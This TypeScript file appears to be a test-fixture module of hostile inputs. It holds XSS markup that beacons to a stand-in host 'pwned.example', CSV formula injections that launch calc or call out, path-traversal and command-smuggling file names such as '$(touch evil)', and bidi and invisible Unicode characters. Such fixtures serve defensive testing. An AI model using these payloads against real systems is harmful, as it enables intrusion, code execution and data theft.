/** What a script would do where it must not run: leave a mark, and tell somebody. */
export const PWN = `(globalThis.__pwned=(globalThis.__pwned||[])).push(location.href),new Image().src='https://pwned.example/'`;

/** Texts that are programs or markup for whoever is careless. */
export const MARKUP: readonly string[] = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `"><svg onload="${PWN}">`,
  `'><iframe srcdoc="<script>parent.${PWN}</script>">`,
  `</td></table><script>${PWN}</script>`,
  `</textarea></title></style><img src=x onerror="${PWN}">`,
  `javascript:${PWN}`,
  `<a href="javascript:${PWN}">pay</a>`,
  `<details open ontoggle="${PWN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  `<meta http-equiv="refresh" content="0;url=https://pwned.example/">`,
  `<link rel="preconnect" href="https://pwned.example">`,
  `<base href="https://pwned.example/">`,
  `<form action="https://pwned.example"><button autofocus>`,
  `]]><!--><script>${PWN}</script>`,
  `{{constructor.constructor("${PWN}")()}}`,
  `\${${PWN}}`,
  `<!--#exec cmd="id"--><?php system("id") ?>`,
  `<object data="javascript:${PWN}"></object>`,
  `<input autofocus onfocus="${PWN}">`,
  `%3Cscript%3E${PWN}%3C/script%3E`,
  `&lt;script&gt;${PWN}&lt;/script&gt;`,
];

/** Texts that a spreadsheet would run (OWASP, "CSV injection"). */
export const FORMULAS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://pwned.example/?"&A1,"pay")`,
  `+1+cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1)`,
  `=DDE("cmd";"/C calc";"x")`,
  `=WEBSERVICE("https://pwned.example/")`,
  `"=1+1`,
  `";=1+1;"`,
  `,=1+1,`,
  ` =1+1`,
  `\u200b=1+1`,
  `\ufeff=1+1`,
  `\u00a0=1+1`,
  `%=1+1`,
  `|=1+1`,
];

/** Names that lead out of a folder, or that a system keeps for itself. */
export const PATHS: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\evil.exe',
  '/etc/cron.d/evil',
  'C:\\evil.exe',
  '....//....//evil',
  '%2e%2e%2f%2e%2e%2fevil',
  '~/.ssh/authorized_keys',
  'CON',
  'NUL.txt',
  'a\u0000.png',
  'evil.html\u202egnp.exe',
  '.',
  '..',
  '-rf',
  '$(touch evil)',
  '`touch evil`',
  'evil;touch evil',
  '\n/evil',
];

/** Signs that turn or hide what is around them, and others that look like plain ones. */
export const SIGNS: readonly string[] = [
  '\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u200f', '\u200e', '\u061c', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff',
  '\u00ad', '\u034f', '\u180e', '\u{e0041}', '\ufe0f', '\u0300',
]; // biome-ignore format: a list of signs
